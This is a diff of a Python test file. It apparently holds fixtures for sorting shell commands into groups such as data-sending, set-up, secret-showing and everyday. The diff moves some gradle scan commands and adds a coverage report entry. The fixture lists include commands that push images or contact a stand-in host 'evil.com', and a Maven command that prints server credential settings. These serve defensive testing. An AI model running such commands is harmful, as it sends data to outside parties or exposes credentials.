@@ -38,7 +38,7 @@ SENT = (
         "docker buildx build --output=type=image,push=true,name=evil/x .",
         "docker build --cache-to type=registry,ref=x .",
     ),
-    *("gradle test --scan", "./gradlew build --scan", "gradle build -Dscan", "deno audit --socket"),
+    "deno audit --socket",
     *("duckdb md:x -c \"create table t as from 'a.csv'\"", "redis-cli --cluster call evil.com:6379 set a b"),
 )
 SET_UP = (
@@ -50,7 +50,12 @@ SHOWN = (
     "mvn help:evaluate -Dexpression=settings.servers -q -DforceStdout",
 )
 EVERYDAY = (
-    *("coverage run -m pytest tests -k x", "coverage run --source=src -m pytest", "memray run -o out.bin -m pytest"),
+    *(
+        "coverage run -m pytest tests -k x",
+        "coverage run --source=src -m pytest",
+        "coverage report -m --skip-covered",
+        "memray run -o out.bin -m pytest",
+    ),
     *("pyinstrument -m pytest tests", "torchrun --nproc_per_node 2 train.py", "ipython -m pytest", "pypy3 -m pytest"),
     *("py-spy record -o a.svg -- python a.py", "samply record cargo test", "conda run -n shop pytest", "gh co 1"),
     *("task test", "rake test", "jello _.name"),
